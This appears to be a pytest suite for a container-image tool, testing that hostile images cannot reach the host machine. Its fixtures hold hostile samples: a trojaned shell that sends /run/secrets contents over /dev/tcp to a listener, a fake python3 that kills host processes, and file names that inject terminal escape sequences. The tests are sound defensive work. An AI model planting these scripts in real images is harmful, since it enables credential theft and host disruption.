"""Images that were made to deceive or to harm who asks about them: `check`,
`outdated`, and the protocol itself.
"""

from __future__ import annotations

import io
import json
import os
import socket
import subprocess
import sys
import tarfile
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NoReturn

import pytest

from image.here import Here
from image.support import ROOT, BuiltByCommand, engine_that_answers
from image.test_imagetest import IMAGE, LocalEngine, ignore
from trainworks.attestation.subject_image import list_image_packages
from trainworks.engine import ENGINES
from trainworks.engine.protocol import BuildRequest, BuiltImage, Completed, Engine, Job, Layer
from trainworks.errors import EngineUnavailableError, ImageTestError
from trainworks.extend.base_image import find_base
from trainworks.facts.load import load
from trainworks.imagetest import probe_request
from trainworks.imagetest.any_image import FRAMEWORKS, Frameworks
from trainworks.imagetest.probe.answers import Answer
from trainworks.imagetest.probe_request import answer_in, ask_program
from trainworks.imagetest.results import CheckResult, line
from trainworks_testing.clock import PATIENCE

LOGIN = "machine index.example login me password CANARY-LOGIN\n"

LISTENING = """\
#!/usr/bin/dash
if [ -d /run/secrets ]; then
    /bin/bash -c '
        d=$(cat /run/secrets/* 2>/dev/null)
        exec 3<>/dev/tcp/127.0.0.1/{port} && printf "CAUGHT %s" "$d" >&3'
fi
exec /usr/bin/dash "$@"
"""

KILLING = """\
#!/bin/sh
for each in /proc/[0-9]*; do
    if tr '\\\\0' ' ' <$each/cmdline 2>/dev/null | grep -q '{mark}'; then
        kill -9 ${{each#/proc/}}
    fi
done
exec /usr/bin/python3.real "$@"
"""


@pytest.fixture(params=list(ENGINES))
def engine(request: pytest.FixtureRequest) -> Engine:
    """Give each engine that answers, with a base image of ours."""
    return engine_that_answers(request.param)


@contextmanager
def built(
    engine: Engine, folder: Path, steps: str, files: dict[str, str] | None = None
) -> Iterator[str]:
    """Give an image on a base of ours that the engine has."""
    base = next(
        (name for name in engine.names() if name.startswith("trainworks/base:bookworm-")), ""
    )
    if not base:
        pytest.skip(f"NOT TESTED: {engine.name} has no base image of bookworm; a build makes one")
    for name, text in (files or {}).items():
        (folder / name).write_text(text)
        (folder / name).chmod(0o755)
    (folder / "Dockerfile").write_text(f"FROM {base}\n{steps}")
    name = f"localhost/trainworks-foreign-{uuid.uuid4().hex[:12]}:test"
    engine.build(BuildRequest(name="test", context=folder, tags=(name,)), ignore)
    try:
        yield name
    finally:
        engine.remove(name)


def command(home: Path, *words: str) -> subprocess.CompletedProcess[str]:
    """Run the product with a home that has a login."""
    home.mkdir(exist_ok=True)
    (home / ".netrc").write_text(LOGIN)
    return subprocess.run(
        (sys.executable, str(ROOT / "build.py"), *words),
        env={**os.environ, "HOME": str(home)},
        capture_output=True,
        text=True,
        check=False,
        timeout=900,
    )


@contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """Return a port of this machine, and the list of data that arrives there."""
    caught: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    caught.append(connection.recv(65536))

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1], caught
        server.shutdown(socket.SHUT_RDWR)
    thread.join(PATIENCE)


class OpenEngine(LocalEngine):
    """An engine whose programs would see this machine, as buildah's without crun and runc."""

    def inspect(self, _reference: str) -> BuiltImage:
        return IMAGE

    @contextmanager
    def contents(self, reference: str) -> Iterator[Iterator[Layer]]:
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w") as archive:
            for path in ("usr", "usr/bin", "usr/bin/python3"):
                member = tarfile.TarInfo(path)
                member.mode = 0o755
                if not path.endswith("python3"):
                    member.type = tarfile.DIRTYPE
                archive.addfile(member)
        packed.seek(0)
        with tarfile.open(fileobj=packed, mode="r|") as streamed:
            yield iter([Layer(name=reference, archive=streamed)])

    def isolates(self) -> str:
        return "crun: not found"


def test_no_program_of_a_base_runs_where_it_would_see_this_machine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The extension was refused all the same, after the base's Python had run."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    with pytest.raises(EngineUnavailableError, match=r"cannot isolate .*: crun: not found"):
        find_base("localhost/other:1", OpenEngine(), load(ROOT))


class ClosedEngine(OpenEngine):
    """An engine that has a runtime which isolates."""

    def isolates(self) -> str:
        return ""


def test_a_base_that_is_known_is_refused_too_where_its_programs_would_see_this_machine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The tests of an extended image run programs of its base, without isolation."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    find_base("localhost/other:1", ClosedEngine(), load(ROOT))
    with pytest.raises(EngineUnavailableError, match=r"cannot isolate .*: crun: not found"):
        find_base("localhost/other:1", OpenEngine(), load(ROOT))


def test_prove_says_where_an_images_programs_see_this_machine(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The line comes before the programs run: with this engine none does."""

    class StoppedEngine(OpenEngine):
        def container(self, reference: str, *, isolated: str = "") -> NoReturn:
            raise EngineUnavailableError(f"{reference} is not started, {isolated!r}")

    with pytest.raises(EngineUnavailableError):
        list_image_packages(StoppedEngine(), "localhost/ours:1")
    printed = capsys.readouterr().err
    assert "  its programs run without isolation: they see this machine" in printed
    assert "(crun: not found)" in printed


@pytest.mark.engine
def test_an_images_shell_gets_no_login_and_no_port_from_outdated(
    engine: Engine, tmp_path: Path
) -> None:
    moved = "mv /tmp/sh /usr/bin/sh.new; mv -f /usr/bin/sh.new /usr/bin/sh"
    replaced = f'COPY sh /tmp/sh\nRUN ["/usr/bin/dash", "-c", "{moved}"]\n'
    with listener() as (port, caught):
        files = {"sh": LISTENING.format(port=port)}
        (tmp_path / "context").mkdir()
        with built(engine, tmp_path / "context", replaced, files) as name:
            caught.clear()
            done = command(
                tmp_path / "home", "outdated", name, "--engine", engine.name, "--format", "json"
            )
    assert done.returncode in (0, 18), done.stderr
    assert json.loads(done.stdout)["packages"] > 50
    assert caught == []


@pytest.mark.engine
def test_an_images_python_cannot_kill_a_process_of_the_host(engine: Engine, tmp_path: Path) -> None:
    mark = f"canary-{uuid.uuid4().hex}"
    files = {"python3": KILLING.format(mark=mark)}
    steps = "COPY python3 /usr/bin/python3\n"
    with subprocess.Popen((sys.executable, "-c", "input()", mark), stdin=subprocess.PIPE) as victim:
        try:
            (tmp_path / "context").mkdir()
            with built(engine, tmp_path / "context", steps, files) as name:
                words = ("check", "--image", name, "--any", "--engine", engine.name)
                done = command(tmp_path / "home", *words)
            assert "Traceback" not in done.stderr
            assert victim.poll() is None, done.stderr
        finally:
            victim.kill()


@pytest.mark.engine
def test_a_base_gets_no_setting_of_this_machine_for_its_debian_packages(
    docker_image: BuiltByCommand, tmp_path: Path
) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "train.py").write_text("import sys\n")
    (tmp_path / "context").mkdir()
    with listener() as (port, caught):
        script = LISTENING.format(port=port).replace(
            "exec /usr/bin/dash", "exec /usr/bin/apt-get.real"
        )
        (tmp_path / "context" / "apt-get").write_text(script)
        (tmp_path / "context" / "apt-get").chmod(0o755)
        (tmp_path / "context" / "Dockerfile").write_text(
            f"FROM {docker_image.reference}\nLABEL org.opencontainers.image.title=theirs\n"
            "RUN mv /usr/bin/apt-get /usr/bin/apt-get.real\nCOPY apt-get /usr/bin/apt-get\n"
        )
        base, name = (
            f"localhost/trainworks-foreign-{uuid.uuid4().hex[:12]}:{kind}"
            for kind in ("base", "made")
        )
        engine = docker_image.engine
        engine.build(BuildRequest(name="test", context=tmp_path / "context", tags=(base,)), ignore)
        words = (
            "--base",
            base,
            "--source",
            str(tmp_path / "src"),
            "--entry-point",
            "train.py",
            "--apt",
            "tree",
        )
        try:
            done = command(tmp_path / "home", "extend", *words, "--tag", name, "--engine", "docker")
            assert done.returncode in (0, ImageTestError.exit_status), done.stderr
            tree_result = engine.run(
                name,
                Job(command=("sh", "-c", "tree --version; apt-mark showmanual"), isolated="asked"),
            )
        finally:
            for reference in (base, name):
                engine.remove(reference)
    assert tree_result.output.startswith("tree v")
    assert "tree" in tree_result.output.split()
    assert not [caught_line for caught_line in caught if caught_line != b"CAUGHT "]


@pytest.mark.engine
def test_escapes_in_the_names_of_an_image_do_not_reach_the_terminal(
    engine: Engine, tmp_path: Path
) -> None:
    (tmp_path / "context").mkdir()
    steps = (
        "RUN ln -s /none \"$(printf '/usr/bin/x\\033]0;OWNED\\007\\033[2J\\302\\233\\nok"
        "    forged  result')\" && ln -s /none \"$(printf '/usr/bin/y\\342\\200\\256txt')\"\n"
    )
    with built(engine, tmp_path / "context", steps) as name:
        done = command(
            tmp_path / "home", "check", "--image", name, "--any", "--engine", engine.name
        )
        as_json = command(
            tmp_path / "home",
            "check",
            "--image",
            name,
            "--any",
            "--engine",
            engine.name,
            "--format=json",
        )
    output = done.stdout + done.stderr
    assert "\\u001b]0;OWNED\\u0007\\u001b[2J\\u009b\\nok    forged" in output
    assert "/usr/bin/y\\u202etxt" in output
    for character in "\x1b\x07\x9b\u202e":
        assert character not in output
    details = [check["detail"] for check in json.loads(as_json.stdout)["checks"]]
    assert any("\x1b]0;OWNED" in detail for detail in details)
    assert not [line for line in output.splitlines() if line.startswith("ok    forged")]


@pytest.mark.engine
def test_buildah_without_a_runtime_runs_nothing_of_an_image(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = engine_that_answers("buildah")
    programs = tmp_path / "bin"
    programs.mkdir()
    for folder in os.environ["PATH"].split(":"):
        for program in Path(folder).glob("*") if Path(folder).is_dir() else ():
            if program.name not in ("crun", "runc") and not (programs / program.name).exists():
                (programs / program.name).symlink_to(program)
    (tmp_path / "context").mkdir()
    with built(engine, tmp_path / "context", "RUN ln -s /none /usr/bin/nowhere\n") as name:
        monkeypatch.setenv("PATH", str(programs))
        done = command(tmp_path / "home", "check", "--image", name, "--any", "--engine", "buildah")
    assert "buildah cannot isolate: there is no crun or runc on PATH" in done.stderr
    assert "/usr/bin/nowhere" in done.stderr
    assert "torch" not in [
        line.split()[1] for line in done.stderr.splitlines() if line.startswith(("ok ", "FAIL "))
    ]


# --- the protocol ---------------------------------------------------------------------------------


def frameworks(folder: Path, **files: str) -> Frameworks:
    """Ask this Python, with files of `site-packages` before all others."""
    for name, text in files.items():
        (folder / f"{name}.py").write_text(text)
    start = f"import site; site.addsitedir({str(folder)!r})\n"
    (folder / "sitecustomize.py").write_text(start)
    container = Here({**os.environ, "PYTHONPATH": str(folder)})
    return ask_program(container, (sys.executable,), FRAMEWORKS, {"torch": True}, timeout=300)


TORCH = "__version__ = '9.9'\nclass version: cuda = '12.1'\n"


@pytest.mark.parametrize(
    ("start", "torch"),
    [
        pytest.param("import atexit; atexit.register(print, 'bye')", TORCH, id="a last line"),
        pytest.param("print('hello')", TORCH + 'print(\'{"torch": "0"}\')', id="lines before"),
        pytest.param(
            "", TORCH + "import sys; sys.stderr.write('no newline')", id="the other stream"
        ),
        pytest.param(
            "print('answer-00000000000000000000000000000000:{}answer-0:')", TORCH, id="another mark"
        ),
        pytest.param("print('trainworks-answer: {}')", TORCH, id="the mark of before"),
    ],
)
def test_what_an_image_prints_besides_is_nothing(start: str, torch: str, tmp_path: Path) -> None:
    (tmp_path / "zz.py").write_text(start)
    (tmp_path / "zz.pth").write_text("import zz\n")
    versions = frameworks(tmp_path, torch=torch)
    assert (versions["torch"], versions["cuda"], versions["error"]) == ("9.9", "12.1", "")


def test_a_torch_that_ends_the_process_is_no_pass(tmp_path: Path) -> None:
    with pytest.raises(ImageTestError, match="does not answer"):
        frameworks(tmp_path, torch="import os; os._exit(0)")


def test_an_import_that_never_happened_is_no_success(tmp_path: Path) -> None:
    (tmp_path / "zz.pth").write_text("import os; os._exit(0)\n")
    (tmp_path / "sitecustomize.py").write_text(f"import site; site.addsitedir({str(tmp_path)!r})\n")
    container = Here({**os.environ, "PYTHONPATH": str(tmp_path)})
    assert "does not answer" in probe_request.can_import(
        container, sys.executable, "json", timeout=300
    )


SOUND: dict[str, Any] = {"version": [3, 11], "torch": "", "cuda": "", "nccl": False, "error": ""}


@pytest.mark.parametrize(
    "output",
    [
        pytest.param("", id="nothing"),
        pytest.param("\0\ufffd\x1b[2J" * 1000, id="binary"),
        pytest.param("M", id="half a mark"),
        pytest.param("MARK", id="one mark"),
        pytest.param("MARKMARK", id="an empty answer"),
        pytest.param("MARK{}MARK", id="no keys"),
        pytest.param("MARK[]MARK", id="a list"),
        pytest.param("MARKnullMARK", id="null"),
        pytest.param("MARKNaNMARK", id="NaN"),
        pytest.param(f"MARK{json.dumps({**SOUND, 'nccl': 1})}MARK", id="a number for a truth"),
        pytest.param(
            f"MARK{json.dumps({**SOUND, 'version': ['3']})}MARK", id="a string for a number"
        ),
        pytest.param(
            f"MARK{json.dumps({**SOUND, 'version': [True]})}MARK", id="a truth for a number"
        ),
        pytest.param(f"MARK{json.dumps({**SOUND, 'version': [1 << 70]})}MARK", id="a large number"),
        pytest.param(f"MARK{json.dumps({**SOUND, 'more': 1})}MARK", id="a further key"),
        pytest.param('MARK{"version": [Infinity]}MARK', id="Infinity"),
        pytest.param(
            f'MARK{{"version": [{"9" * 9000}]}}MARK', id="a number of thousands of digits"
        ),
        pytest.param(f"MARK{'[' * 200_000}MARK", id="deep"),
        pytest.param(f"MARK{'[' * 200_000}{']' * 200_000}MARK", id="deep and closed"),
        pytest.param(f"MARK{json.dumps(SOUND)}MARK MARK{json.dumps(SOUND)}MARK", id="two answers"),
        pytest.param(f"MARK{json.dumps(SOUND)} {json.dumps(SOUND)}MARK", id="two values"),
        pytest.param(f"MARK{json.dumps(SOUND)}\nMARK\nMARK", id="a mark more"),
    ],
)
def test_a_malformed_answer_is_an_error_with_a_sentence(output: str) -> None:
    with pytest.raises(ImageTestError, match=r"does not answer|answer is malformed"):
        answer_in(Completed(status=0, output=output), "MARK", Frameworks)


def test_a_sound_answer_is_taken() -> None:
    output = f"a line\nMARK{json.dumps(SOUND)}MARK\nanother"
    assert answer_in(Completed(status=1, output=output), "MARK", Frameworks) == SOUND


class Lying(Here):
    """Answer each question about the image's files with a value of the test."""

    def __init__(self, answer: object) -> None:
        super().__init__()
        object.__setattr__(self, "answer", answer)

    def run(self, command: tuple[str, ...], *, timeout: float = 120.0) -> Completed:  # noqa: ARG002
        mark = next(word for word in command if word.startswith("answer-"))
        return Completed(status=0, output=f"{mark}{json.dumps(self.answer)}{mark}")  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "answer",
    [
        {},
        {"problems": []},
        {"problems": [[], []]},
        {"problems": ["a"]},
        {"problems": [[]], "files": None},
        {"files": {}},
    ],
)
def test_an_answer_to_other_questions_is_an_error(answer: Answer) -> None:
    row = {"kind": "search-path", "component": "c", "variable": "PATH"}
    with pytest.raises(ImageTestError, match="malformed"):
        probe_request.ask(Lying(answer), {"checks": [row], "files": ([], None)})


def test_a_title_with_a_line_end_is_one_line() -> None:
    forged = CheckResult(
        component="torch",
        title="import torch succeeds: 2\nok    secrets  none",
        passed=True,
        detail="",
        seconds=0,
    )
    assert line(forged).splitlines() == [
        "ok    torch       import torch succeeds: 2\\nok    secrets  none"
    ]
